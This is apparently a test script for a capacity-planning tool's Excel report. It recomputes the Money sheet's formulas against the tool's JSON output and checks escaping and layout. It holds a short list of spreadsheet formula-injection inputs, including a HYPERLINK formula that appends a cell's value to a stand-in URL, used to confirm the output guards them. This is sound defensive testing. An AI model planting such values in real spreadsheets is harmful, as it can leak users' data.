#!/usr/bin/env python3
"""workbook.py PROGRAM FOLDER-OF-EXAMPLES: the workbook that `report` writes, read without any spreadsheet.

Its Money sheet is computed here from the formulas that stand in it and held against `evaluate --format json`; the other cases
are about text that is data, and numbers that are numbers.
"""
import json
import math
import pathlib
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
import zipfile

sys.path.insert(0, str(pathlib.Path(__file__).parents[2] / "support"))
import cases

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PROGRAM, EXAMPLES = sys.argv[1], pathlib.Path(sys.argv[2])
FOLDER = pathlib.Path(tempfile.mkdtemp())
HOSTILE = ["=HYPERLINK(\"http://x/\"&A1)", "+1", "-1", "@SUM(A1)", "\t=1+1"]
# Symbols of the sheet and the figures that they are.
FIGURES = {"C_capex": "cost.capex_usd_gpu_month", "C_pow": "cost.power_usd_gpu_month", "C_host": "cost.hosting_usd_gpu_month",
           "C_ops": "cost.operations_usd_gpu_month", "C_gpu": "cost.usd_gpu_month", "C_rep": "cost.usd_replica_month",
           "C_user": "cost.usd_user_month", "C_tok": "cost.usd_million_output_tokens", "N_rep": "fleet.replicas",
           "N_gpu": "fleet.gpus", "C_fleet": "fleet.usd_month", "C_fleet_user": "fleet.usd_user_month", "MW": "fleet.megawatts"}


def run(*arguments):
    return subprocess.run([PROGRAM, *map(str, arguments)], capture_output=True, text=True)


def workbook(plan, name="out.xlsx", *options):
    out = FOLDER / name
    done = run("report", plan, "-o", out, *options)
    assert done.returncode in (0, 1), done.stderr
    return out


def sheets(path):
    """{sheet: {cell: (value, formula or None)}} of a workbook."""
    with zipfile.ZipFile(path) as file:
        texts = ["".join(t.text or "" for t in si.iter(MAIN + "t")) for si in ET.fromstring(file.read("xl/sharedStrings.xml"))]
        names = [sheet.get("name") for sheet in ET.fromstring(file.read("xl/workbook.xml")).iter(MAIN + "sheet")]
        found = {}
        for number, name in enumerate(names, 1):
            cells = found[name] = {}
            for cell in ET.fromstring(file.read(f"xl/worksheets/sheet{number}.xml")).iter(MAIN + "c"):
                value, formula = cell.find(MAIN + "v"), cell.find(MAIN + "f")
                text = value.text if value is not None else None
                kind = cell.get("t")
                content = texts[int(text)] if kind == "s" else text if kind == "str" else None if text is None else float(text)
                cells[cell.get("r")] = (content, formula.text if formula is not None else None)
        return found


class NotThere(Exception):
    """#VALUE!, #DIV/0! and their like."""


def computed(cells, cell):
    """The value of a cell by its formula: a second spreadsheet, of the few functions that the sheet uses."""
    value, formula = cells[cell]
    if formula is None:
        return value

    def number(ref):
        found = computed(cells, ref)
        return found if ref == own or not isinstance(found, str) else fail()

    def fail():
        raise NotThere

    own = cell[:1] + "3"  # the ownership, a word
    text = re.sub(r"(?<![<>=])=(?!=)", "==", formula.lstrip("="))
    text = re.sub(r"\b([A-Z]+\d+)\b", r"ref('\1')", text).replace("^", "**")
    text = text.replace("IFERROR(", "iferror(lambda:").replace("IF(", "choose(lambda:")
    text = lazy(text)

    def iferror(value, other):
        try:
            return value()
        except (NotThere, ZeroDivisionError, TypeError, OverflowError):
            return other()

    return eval(text, {"ref": number, "iferror": iferror, "choose": lambda c, a, b: a() if c() else b(),
                       "ROUNDUP": lambda x, d: math.ceil(x)})


def lazy(text):
    """`, ` between the arguments of iferror and choose as `,lambda:`: only one of them is worked out."""
    out, stack, word = "", [], ""
    for c in text:
        if c == "(":
            stack.append(word in ("iferror", "choose"))
        elif c == ")":
            stack.pop()
        word = word + c if c.isalpha() else ""
        out += c + "lambda:" if c == "," and stack[-1] else c
    return out


def at(figures, name):
    for part in name.split("."):
        figures = figures[part]
    return figures


def money_differences(plan):
    """Figures of every scenario that the sheet computes, or shows, otherwise than `evaluate`."""
    cells = sheets(workbook(plan))["Money"]
    rows = {cells[f"B{line}"][0]: line for line in range(2, 80) if f"B{line}" in cells}
    found = []
    for index, figures in enumerate(json.loads(run("evaluate", plan, "--all", "--format", "json").stdout)):
        column = "DEFGHIJKLMNOP"[index]
        for symbol, name in FIGURES.items():
            cell, wanted = f"{column}{rows[symbol]}", at(figures, name)
            for value in (computed(cells, cell), cells[cell][0]):
                same = value == "n/a" if wanted is None else value != "n/a" and abs(value - wanted) <= max(0.001, 1e-12 * wanted)
                if not same:
                    found.append((figures["name"], name, wanted, value))
    return found


def plan_file(name, **changes):
    """A plan of one scenario, changed at its top level."""
    plan = {"format": "ridgepoint-plan", "version": 1, "title": "t", "baseline": 0, "scenarios": [
        {"name": "a", "model": {"preset": "llama-3.1-8b"}, "hardware": {"preset": "h100-sxm"}, "workload": {"users": 100}}]}
    plan["scenarios"][0].update(changes)
    path = FOLDER / name
    path.write_text(json.dumps(plan))
    return path


def hostile_plan():
    plan = json.loads(plan_file("hostile.ridge").read_text())
    plan["title"] = HOSTILE[0]
    plan["scenarios"] = [{**plan["scenarios"][0], "name": name, "notes": name} for name in HOSTILE]
    path = FOLDER / "hostile.ridge"
    path.write_text(json.dumps(plan))
    return path


def running_cells(path):
    """Text cells that a spreadsheet would run if it took them for input, and formulas outside of Money."""
    return [(sheet, cell, value) for sheet, cells in sheets(path).items() for cell, (value, formula) in cells.items()
            if (isinstance(value, str) and value[:1] in tuple("=+-@\t\r")) or (formula is not None and sheet != "Money")]


def life_changed():
    """A number typed over goes through to the price per user: a life of 8 years is what `evaluate --set` says of it."""
    plan = EXAMPLES / "chat.ridge"
    cells = sheets(workbook(plan))["Money"]
    rows = {cells[f"B{line}"][0]: line for line in range(2, 80) if f"B{line}" in cells}
    cells[f"D{rows['life']}"] = (8.0, None)
    wanted = json.loads(run("evaluate", plan, "--set", "/economics/life_years=8", "--format", "json").stdout)
    return round(computed(cells, f"D{rows['C_user']}") - wanted["cost"]["usd_user_month"], 6)


def bought_instead():
    """Word for word: rent typed over by buy gives the owner's cost."""
    plan = plan_file("rented.ridge", economics={"ownership": "rent"})
    cells = sheets(workbook(plan))["Money"]
    rows = {cells[f"B{line}"][0]: line for line in range(2, 80) if f"B{line}" in cells}
    cells[f"D{rows['own']}"] = ("buy", None)
    wanted = json.loads(run("evaluate", plan, "--set", "/economics/ownership=buy", "--format", "json").stdout)
    return round(computed(cells, f"D{rows['C_gpu']}") - wanted["cost"]["usd_gpu_month"], 6)


def input_cells():
    cells = sheets(workbook(EXAMPLES / "chat.ridge"))["Inputs"]
    rows = {cells[f"B{line}"][0]: line for line in range(2, 100) if f"B{line}" in cells}
    share = rows["/workload/active_share"]
    return cells[f"C{share}"][0], isinstance(cells[f"D{share}"][0], float), bool(cells[f"F{share}"][0])


UNSAFE = "A\ufffe\uffff\ufdd0\U0001fffe\u0001\u202e\u2029\u0085\u009b\ufeffB"
SHOWN = r"A\uFFFE\uFFFF\uFDD0\U0001FFFE\u0001\u202E\u2029\u0085\u009B\uFEFFB"


def unsafe_names():
    """Where every text that a person writes holds what XML may not: which sheets show it, and which hold any of it raw."""
    plan = json.loads(plan_file("unsafe.ridge").read_text())
    plan["title"] = UNSAFE
    plan["scenarios"][0].update(name=UNSAFE, notes=UNSAFE, hardware={"preset": "h100-sxm", "name": UNSAFE})
    path = FOLDER / "unsafe.ridge"
    path.write_text(json.dumps(plan))
    texts = {sheet: " ".join(v for v, _ in cells.values() if isinstance(v, str)) for sheet, cells in sheets(workbook(path)).items()}
    return [sheet for sheet, text in texts.items() if SHOWN in text], [sheet for sheet, text in texts.items() if set(UNSAFE[1:-1]) & set(text)]


def panes():
    """Sheets whose head stays in sight."""
    with zipfile.ZipFile(workbook(examples[0])) as file:
        return ["<pane " in file.read(f"xl/worksheets/sheet{n}.xml").decode() for n in (1, 2, 3, 4)]


def summary_says():
    """What the head of Summary says of the comparison and of doubts."""
    texts = [str(value) for value, _ in sheets(workbook(EXAMPLES / "chat.ridge"))["Summary"].values()][:6]
    return [any(begin in text for text in texts) for begin in ("Cheapest per user: ", "is without a queue")]


examples = sorted(EXAMPLES.glob("*.ridge"))
cases.run([(f"Money of {plan.name} computes to what evaluate says", lambda plan=plan: money_differences(plan), []) for plan in examples] + [
    ("Money of a rented GPU", lambda: money_differences(plan_file("rent.ridge", economics={"ownership": "rent"})), []),
    ("Money at no cost of capital", lambda: money_differences(plan_file("free.ridge", economics={"cost_of_capital": 0})), []),
    ("Money of a plan that does not fit", lambda: money_differences(plan_file("big.ridge", model={"preset": "deepseek-v3.2"})), []),
    ("Money without users", lambda: money_differences(plan_file("alone.ridge", workload={"users": None})), []),
    ("a longer life typed over", life_changed, 0),
    ("rent typed over by buy", bought_instead, 0),
    ("an input is a number with its unit and source beside it", input_cells, ("%", True, True)),
    ("text that would run is guarded, and formulas stand in Money alone", lambda: running_cells(workbook(hostile_plan())), []),
    ("names that XML may not hold are shown escaped in every sheet", unsafe_names, (["Summary", "Comparison", "Inputs", "Money"], [])),
    ("heads stay in sight where there is one", panes, [False, True, True, True]),
    ("Summary names the cheapest, and what is doubtful", summary_says, [True, True]),
    ("the same plan gives the same bytes", lambda: workbook(examples[0], "one.xlsx").read_bytes() == workbook(examples[0], "two.xlsx").read_bytes(), True),
])
